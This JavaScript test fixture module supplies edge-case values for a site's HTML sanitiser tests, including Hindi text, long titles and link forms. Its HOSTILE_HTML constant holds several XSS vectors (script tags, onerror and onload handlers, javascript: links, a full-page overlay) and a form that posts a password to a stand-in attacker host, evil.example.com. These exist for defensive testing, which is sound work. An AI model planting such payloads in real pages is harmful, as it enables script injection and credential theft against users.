// The edge-case values the fixtures are built from. Tests import these (through fixtures.mjs)
// to assert that the site neutralises or renders them.

/** Global set by the hostile HTML if any of its scripts ever runs in a browser. */
export const XSS_GLOBAL = '__fakeUpstreamXss';

/** Well-formed HTML that a sanitiser should keep (headings, lists, links, tables, emphasis). */
export const GOOD_HTML =
  '<h2>Fake Good Heading</h2>' +
  '<p>Fake good paragraph with <strong>strong</strong>, <em>emphasis</em> and ' +
  '<a href="https://www.example.com/fake-good-link">a safe external link</a>.</p>' +
  '<ul><li>Fake list item one</li><li>Fake list item two</li></ul>' +
  '<table><tbody><tr><td>Fake cell</td><td>₹ 1,45,000</td></tr></tbody></table>';

/** Untrusted editor HTML: every vector of docs/content-contract.md#html, mixed with good HTML. */
export const HOSTILE_HTML =
  '<p>Fake hostile block starts here.</p>' +
  `<script>alert(1);window.${XSS_GLOBAL}='script'</script>` +
  `<img src=x onerror="alert(1);window.${XSS_GLOBAL}='img'">` +
  '<a href="javascript:alert(1)">Fake javascript link</a>' +
  '<iframe src="https://evil.example.com/fake-frame" width="600" height="400"></iframe>' +
  '<form action="https://evil.example.com/fake-steal" method="post"><input name="password">' +
  '<button type="submit">Fake form button</button></form>' +
  `<div onclick="window.${XSS_GLOBAL}='click'" style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">` +
  'Fake styled overlay</div>' +
  `<svg><g onload="window.${XSS_GLOBAL}='svg'"></g></svg>` +
  '<p style="color:red">Fake styled paragraph</p>' +
  GOOD_HTML +
  '<p>Fake hostile block ends here.</p>';

/** Plain text that must be shown literally, never parsed as HTML. */
export const TEXT_EDGE = 'Fake <b>not bold</b> & < text';

/** Hindi (Devanagari), typographic quotes and emoji. */
export const HINDI_TEXT = 'भारतीय संविधान की “प्रस्तावना” — फ़ेक हिंदी लेख 🇮🇳📚';

/** A title longer than 200 characters, made of words so it can wrap. */
export const LONG_TITLE =
  'Fake Long Title: ' +
  'the constitutional, economic, environmental and geopolitical dimensions of India’s federal structure explained '.repeat(3).trim();

/** A hostile link value (docs/content-contract.md#links). */
export const HOSTILE_LINK = 'javascript:alert(1)';

/** One `linkurl` of every form of docs/content-contract.md#links, keyed by form. */
export const LINK_FORMS = {
  absolute: 'https://www.example.com/fake-upstream-external',
  leadingSlash: '/blogs',
  noSlash: 'interview-guidance-program',
  hash: '#',
  root: '/',
  hostile: HOSTILE_LINK,
};

/**
 * Builds picture and file addresses on the fake media host (the fake upstream itself).
 * @param {string} mediaBase e.g. 'http://127.0.0.1:4010/media'
 */
export function mediaUrls(mediaBase) {
  return {
    /** @param {string} name */
    pic: (name) => `${mediaBase}/${name}.png`,
    /** @param {string} name */
    pdf: (name) => `${mediaBase}/${name}.pdf`,
  };
}
